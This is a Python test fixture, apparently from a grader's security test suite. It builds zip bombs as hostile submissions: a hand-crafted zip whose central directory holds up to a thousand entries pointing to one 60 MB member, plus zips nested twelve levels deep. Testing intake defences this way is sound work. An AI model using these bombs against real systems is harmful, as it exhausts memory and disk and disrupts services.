"""Zips whose members are all the same bytes, a thousand of them in a zip, and zips in zips in zips.

Aim: a grader that unpacks terabytes from a few kilobytes, or unpacks without end.
Defence: intake
Control: none: it would take all memory
Part: function_gan
"""

import io
import json
import struct
import zipfile


def make(folder, notebook):
    handed_in = folder / "handed-in"
    handed_in.mkdir()
    content = json.dumps(notebook | {"cells": notebook["cells"][:4]}).encode() + b" " * (60 << 20)
    inner = overlapping(content, 1000)
    (handed_in / "few.zip").write_bytes(overlapping(content, 10))
    for name, depth in (("thousand.zip", 1), ("deep.zip", 12)):
        nested = inner
        for _ in range(depth):
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
                archive.writestr("a.zip", nested)
                archive.writestr("b.zip", nested)
            nested = buffer.getvalue()
        (handed_in / name).write_bytes(nested)
    return handed_in


def overlapping(content, members):
    """Return a zip with many entries in its directory that all point to one member."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("0000.ipynb", content)
    data = buffer.getvalue()
    start = data.index(b"PK\x01\x02")
    entry = data[start : data.index(b"PK\x05\x06")]
    entries = b"".join(
        entry.replace(b"0000.ipynb", b"%04d.ipynb" % number) for number in range(members)
    )
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, members, members, len(entries), start, 0)
    return data[:start] + entries + end
